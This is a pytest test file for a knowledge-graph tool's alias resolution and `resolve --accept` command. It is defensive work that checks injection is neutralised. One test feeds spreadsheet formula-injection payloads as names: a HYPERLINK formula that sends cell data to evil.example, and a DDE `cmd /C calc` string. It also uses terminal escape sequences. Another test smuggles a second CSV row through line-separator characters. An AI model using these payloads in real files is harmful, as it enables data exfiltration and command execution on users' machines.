"""The analyst's side of entity resolution: an aliases file in a build, `kg resolve`'s
candidates and what `--accept` appends."""

from __future__ import annotations

import csv

import pytest
from click.testing import CliRunner

from kg import InputError, build
from kg.cli import main
from kg.resolve import AliasTable, accepted_candidates, candidates, resolution_key

from .conftest import BASE, TODAY


DOC = """# __{title}__, (from page [20240101](https://k.org/p/1).)

## Technologies

| name | description | relevancy |
|--|--|--|
| {tech} | d | 3 |
"""


def test_every_name_of_a_node_finds_it_when_the_corpus_renamed_its_key(tmp_path):
    """A node of one name whose key the archive's joins renamed ("EVs" to the table's
    long form, "machine learning models" with "ML models") kept only the new key as its
    search key: `articles-mentioning -p label=EVs` found nothing (a review's finding)."""
    src = tmp_path / "src"
    src.mkdir()
    for n, tech in enumerate(("EVs", "electric vehicles", "Artificial Intelligence (AI)"), 1):
        (src / f"a{n}.md").write_text(DOC.format(title=f"A{n}", tech=tech), encoding="utf-8")
    (src / "a4.md").write_text(DOC.format(title="A4", tech="Soil Carbon") +
                               "\n## Keywords\n\n* AI\n", encoding="utf-8")
    graph = build([src], tmp_path / "out", base=BASE, today=TODAY, html=False)
    for name, articles in (("EVs", ["a1", "a2"]), ("electric vehicles", ["a1", "a2"]),
                           ("AI", ["a3", "a4"]), ("artificial intelligence", ["a3", "a4"]),
                           ("Soil Carbon", ["a4"])):
        rows = graph.saved_query("articles-mentioning", label=name).values()
        assert sorted(row["article"].removeprefix(BASE + "article/") for row in rows) == \
            articles, name
    hidden = {(row["e"].removeprefix(BASE), row["key"]) for row in graph.query(
        "SELECT ?e ?key WHERE { ?e skos:hiddenLabel ?key }").values()}
    assert hidden == {("technology/electric_vehicle", "ev"),
                      ("technology/electric_vehicle", "electric vehicle"),
                      ("technology/artificial_intelligence", "artificial intelligence"),
                      ("technology/artificial_intelligence", "ai"),
                      ("technology/soil_carbon", "soil carbon"),
                      ("keyword/artificial_intelligence", "ai"),
                      ("keyword/artificial_intelligence", "artificial intelligence")}


def test_aliases_file_is_honoured_by_the_build(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    for n, tech in enumerate(("Voice Cloning", "Voice Mimicry", "Digital Twins", "digital twin"), 1):
        (src / f"a{n}.md").write_text(DOC.format(title=f"A{n}", tech=tech), encoding="utf-8")
    plain = build([src], tmp_path / "plain", base=BASE, today=TODAY, html=False)
    assert plain.report.counts["Technology"] == 3  # voice cloning | voice mimicry | digital twin
    aliases = tmp_path / "aliases.csv"
    aliases.write_text("# reviewed 2026-11-24\nsame,Voice Cloning,voice mimicry\n"
                       "never,Digital Twins,digital twin\n", encoding="utf-8")
    result = build([src], tmp_path / "out", base=BASE, today=TODAY, html=False, aliases=aliases)
    assert result.report.counts["Technology"] == 3  # one voice node | Digital Twins | digital twin
    rows = result.query("SELECT ?e ?name WHERE { ?e a kg:Technology ; "
                        "rdfs:label|skos:altLabel ?name }").values()
    node_of = {row["name"]: row["e"].removeprefix(BASE) for row in rows}
    assert node_of["Voice Cloning"] == node_of["Voice Mimicry"] == "technology/voice_cloning"
    assert node_of["Digital Twins"] != node_of["digital twin"]
    # The aliases file is part of the cache key: editing it rebuilds with the new decisions.
    aliases.write_text("same,Voice Cloning,voice mimicry\n", encoding="utf-8")
    again = build([src], tmp_path / "out", base=BASE, today=TODAY, html=False, aliases=aliases)
    assert again.report.counts["Technology"] == 2 and again.report.reused == 0


def test_an_aliases_row_naming_nothing_of_the_archive_is_a_warning(tmp_path):
    """A row whose name the archive never uses (a typo, a name from another archive)
    changed nothing, silently (a review's finding): now a warning names its line."""
    src = tmp_path / "src"
    src.mkdir()
    for n, tech in enumerate(("Voice Cloning", "Voice Mimicry", "Digital Twins"), 1):
        (src / f"a{n}.md").write_text(DOC.format(title=f"A{n}", tech=tech), encoding="utf-8")
    aliases = tmp_path / "aliases.csv"
    aliases.write_text("# reviewed\nsame,voice clonings,Voice Mimicry\nsame,Voice Cloning,Voise Mimicry\n"
                       "never,Digital Twins,digital twin tech\n", encoding="utf-8")
    graph = build([src], tmp_path / "out", base=BASE, today=TODAY, html=False, aliases=aliases)
    assert [str(d) for d in graph.report.diagnostics if d.path == str(aliases)] == [
        f"{aliases}:3: warning: no name of the archive is 'Voise Mimicry'; the row changes "
        "nothing for it",
        f"{aliases}:4: warning: no name of the archive is 'digital twin tech'; the row changes "
        "nothing for it"]
    assert graph.report.counts["Technology"] == 2  # (the rows that name both still work)


def test_a_never_row_undoes_a_join_of_the_abbreviations_table(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    for n, tech in enumerate(("EVs", "electric vehicles")):
        (src / f"a{n}.md").write_text(DOC.format(title=f"A{n}", tech=tech), encoding="utf-8")
    assert build([src], tmp_path / "a", html=False).report.counts["Technology"] == 1
    aliases = tmp_path / "aliases.csv"
    aliases.write_text("never,EVs,electric vehicles\n", encoding="utf-8")
    kept = build([src], tmp_path / "b", html=False, aliases=aliases)
    assert kept.report.counts["Technology"] == 2


def test_a_bad_aliases_row_is_named_by_file_and_line_and_the_rest_builds(tmp_path):
    """(it stopped the build, nothing written: an attack's note)"""
    bad = tmp_path / "aliases.csv"
    bad.write_text("same,T,Tee\nmaybe,c,d\nsame,only one\n", encoding="utf-8")
    table = AliasTable.read(bad)
    assert table.joined == {"tee": "t"}
    assert [line for line, _ in table.problems] == [2, 3]
    src = tmp_path / "src"
    src.mkdir()
    (src / "a.md").write_text(DOC.format(title="A", tech="T"), encoding="utf-8")
    (src / "b.md").write_text(DOC.format(title="B", tech="Tee"), encoding="utf-8")
    result = CliRunner().invoke(main, ["build", str(src), "-o", str(tmp_path / "o"),
                                       "--aliases", str(bad)])
    assert result.exit_code == 0, result.output
    assert "aliases.csv:2: warning: expected `same,NAME,NAME` or `never,NAME,NAME`, got " \
        "'maybe,c,d'; the row is left out" in result.output
    assert "aliases.csv:3: warning: expected" in result.output
    graph = (tmp_path / "o" / "graph.ttl").read_text(encoding="utf-8")
    assert graph.count("a kg:Technology") == 1  # the good row still joins
    # an unclosed quote spoils its own line only (the csv reader took every line after it
    # into one cell, the rows after it lost: a review)
    bad.write_text('same,T,Tee\nsame,"Coca-Cola,Coke\nnever,T,Tee\n', encoding="utf-8")
    table = AliasTable.read(bad)
    assert [line for line, _ in table.problems] == [2] and table.never == {"t", "tee"}
    bad.write_bytes(b"same,a,b\n\xff\n")  # (a file that is no text at all: an error)
    with pytest.raises(InputError, match="not UTF-8"):
        AliasTable.read(bad)


def test_candidates_are_indexed_not_quadratic():
    # 3,000 distinct names sharing no word and no beginning: no pair is ever compared.
    import itertools

    letters = "bcdfghjklmnpqrstvwxz"
    names = [("Keyword", "".join(p) + "qqq") for p in itertools.islice(
        itertools.product(letters, repeat=4), 3000)]
    assert candidates(names) == []


def test_near_spellings_of_another_first_letter_are_candidates_for_review():
    """The README's example of a spelling left to a person, "misinformation" /
    "disinformation", was never proposed: no shared word or beginning (a review)."""
    found = [(c.first, c.second, c.reason) for c in candidates(
        [("Keyword", "misinformation"), ("Theme", "disinformation"), ("Keyword", "dish")],
        joined={})]
    assert found == [("disinformation", "misinformation", "spelling")]
    assert not accepted_candidates([("Keyword", "misinformation"), ("Theme", "disinformation")])


def test_resolve_command_reports_and_accepts_each_strong_pair_once(tmp_path):
    src = tmp_path / "src"
    src.mkdir()
    for n, tech in enumerate(("Large Language Models (LLMs)", "LLMs", "OpenAI", "Open AI",
                              "Decarbonisation", "decarbonization plans"), 1):
        (src / f"a{n}.md").write_text(DOC.format(title=f"A{n}", tech=tech), encoding="utf-8")
    build([src], tmp_path / "plain", base=BASE, today=TODAY, html=False)
    command = ["resolve", str(tmp_path / "plain" / "graph.ttl"), "--accept",
               str(tmp_path / "none.csv")]
    result = CliRunner().invoke(main, command)
    assert result.exit_code == 0, result.output
    assert result.output.splitlines() == [  # the build joins spacing variants itself
        f"merged  {BASE}technology/large_language_model: LLMs | Large Language Models (LLMs)",
        f"merged  {BASE}technology/open_ai: Open AI | OpenAI",
        f"appended 0 pairs to {tmp_path / 'none.csv'}; build with --aliases "
        f"{tmp_path / 'none.csv'}"]
    # the file the message names is there for the build it advises (a review's finding)
    assert (tmp_path / "none.csv").read_text().startswith("# kg aliases: rows of same or never")
    assert build([src], tmp_path / "none", base=BASE, today=TODAY, html=False,
                 aliases=tmp_path / "none.csv").report.counts["Technology"] == 4
    # A graph where they are two nodes (made by an older kg, or here kept apart by an
    # aliases file): the review proposes them, --accept appends them once.
    apart = tmp_path / "apart.csv"
    apart.write_text("never,Open AI,OpenAI\n", encoding="utf-8")
    build([src], tmp_path / "out", base=BASE, today=TODAY, html=False, aliases=apart)
    accepted = tmp_path / "aliases.csv"
    command = ["resolve", str(tmp_path / "out" / "graph.ttl"), "--accept", str(accepted)]
    result = CliRunner().invoke(main, command)
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[:4] == [
        f"merged  {BASE}technology/large_language_model: LLMs | Large Language Models (LLMs)",
        "candidate  98.0 spacing  Technology: 'Open AI'  ~  Technology: 'OpenAI'",
        "appended  same,Open AI,OpenAI",
        f"appended 1 pair to {accepted}; build with --aliases {accepted}"]
    again = CliRunner().invoke(main, command)  # nothing new: nothing written twice
    assert f"appended 0 pairs to {accepted}" in again.output
    assert list(csv.reader(accepted.open()))[1:] == [["same", "Open AI", "OpenAI"]]
    rebuilt = build([src], tmp_path / "out2", base=BASE, today=TODAY, html=False,
                    aliases=accepted)
    assert rebuilt.report.counts["Technology"] == 4  # llm | openai | two decarbonisations
    after = CliRunner().invoke(main, ["resolve", str(tmp_path / "out2" / "graph.ttl")])
    assert "candidate" not in after.output  # what is one node is no longer proposed


def test_resolve_command_proposes_nothing_the_build_linked_across_types(tmp_path):
    # The keyword VSM joins the technology's long form, which a theme also names: three
    # nodes of one key, linked by skos:exactMatch; no candidate should propose them.
    src = tmp_path / "src"
    src.mkdir()
    (src / "a1.md").write_text(DOC.format(title="A1", tech="Viable System Model (VSM)"),
                               encoding="utf-8")
    (src / "a2.md").write_text(DOC.format(title="A2", tech="Robots") +
                               "\n## Keywords\n\n* VSM\n\n## Themes\n\n* viable system model\n",
                               encoding="utf-8")
    graph = build([src], tmp_path / "out", base=BASE, today=TODAY, html=False)
    assert graph.query("SELECT (COUNT(*) AS ?n) WHERE { ?a skos:exactMatch ?b }"
                       ).values() == [{"n": "6"}]  # each way between the three nodes
    result = CliRunner().invoke(main, ["resolve", str(tmp_path / "out" / "graph.ttl")])
    assert result.exit_code == 0, result.output
    assert "candidate" not in result.output, result.output


def test_accepted_names_are_never_formulas_and_read_back_as_written(tmp_path):
    """An attack: names starting with = + - @ went raw into aliases.csv (a spreadsheet
    runs them), a file without a last line end had the first new row glued to its last
    row, and names reached the terminal with their escape sequences."""
    src = tmp_path / "src"
    src.mkdir()
    pairs = [('=HYPERLINK("http://evil.example/?"&A1,"x")',
              '=HYPER LINK("http://evil.example/?"&A1,"x")'),
             ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A 0"), ("@SUM(1+1)", "@S UM(1+1)"),
             ("Open\x1b[2JAI", "Op en\x1b[2JAI")]
    names = [name for name, _ in pairs]
    apart = tmp_path / "apart.csv"  # two nodes each, so the review proposes them
    with apart.open("w", encoding="utf-8", newline="") as handle:
        for n, (name, spaced) in enumerate(pairs):
            (src / f"a{n}.md").write_text(
                f"# __A{n}__, (from page [20250101](https://x.org/p/20250101).)\n\n"
                f"## Keywords\n\n* {name}\n\n## Themes\n\n* {spaced}\n", encoding="utf-8")
            csv.writer(handle).writerow(["never", name, spaced])
    graph = tmp_path / "out" / "graph.ttl"
    build([src], graph.parent, base=BASE, today=TODAY, html=False, aliases=apart)
    shared = tmp_path / "team" / "aliases.csv"  # a link to a team's file, CRLF, mode 600
    shared.parent.mkdir()
    shared.write_bytes(b"same,Digital Twins,digital twin technology")
    shared.chmod(0o600)
    accepted = tmp_path / "aliases.csv"
    accepted.symlink_to(shared)
    result = CliRunner().invoke(main, ["resolve", str(graph), "--accept", str(accepted)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\\x1b[2J" in result.output
    rows = list(csv.reader(accepted.open(encoding="utf-8")))
    assert rows[0] == ["same", "Digital Twins", "digital twin technology"]
    assert len(rows) == 1 + len(names)
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@"]
    table = AliasTable.read(accepted)
    assert {table.canonical(resolution_key(name)) for name in names} == \
        {table.canonical(resolution_key(row[1])) for row in rows[1:]}
    assert len(table.joined) == 1 + len(names)  # each pair joined, as written
    assert accepted.is_symlink() and shared.stat().st_mode & 0o777 == 0o600
    before = shared.read_bytes()
    again = CliRunner().invoke(main, ["resolve", str(graph), "--accept", str(accepted)])
    assert "appended 0 pairs" in again.output and shared.read_bytes() == before


def test_a_line_separator_in_an_accepted_name_plants_no_row(tmp_path):
    """An attack: names of a graph from elsewhere holding U+2028 (or U+0085, \\v, \\f)
    were written inside a quoted cell, but the aliases file was split at them: the
    cell's tail, `same,misinformation,disinformation`, became a row of its own. A name
    with a line end is no row of the file at all: not appended."""
    graph = tmp_path / "graph.ttl"
    names = {"open_ai": "Open AI{}same,misinformation,disinformation",
             "openai": "OpenAI{}same,misinformation,disinformation",
             "deep_fake": "Deep Fake\nsame,truth,lies", "deepfake": "DeepFake\nsame,truth,lies"}
    with graph.open("w", encoding="utf-8") as handle:
        handle.write("@prefix kg: <https://w3id.org/hskg/ontology#> .\n"
                     "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n")
        for separator in ("\u2028", "\u0085", "\v", "\f"):
            for key, name in names.items():
                label = name.format(separator).replace("\n", "\\n")
                handle.write(f"<https://w3id.org/hskg/id/keyword/{key}{ord(separator)}> "
                             f'a kg:Keyword ; rdfs:label "{label}" .\n')
    accepted = tmp_path / "aliases.csv"
    result = CliRunner().invoke(main, ["resolve", str(graph), "--accept", str(accepted)])
    assert result.exit_code == 0, result.output
    table = AliasTable.read(accepted)
    assert table.problems == []
    assert table.joined == {"openai same misinformation disinformation":
                            "open ai same misinformation disinformation"}  # (one key each)
    assert "\n" not in "".join(cell for row in csv.reader(accepted.open(newline=""))
                                for cell in row)
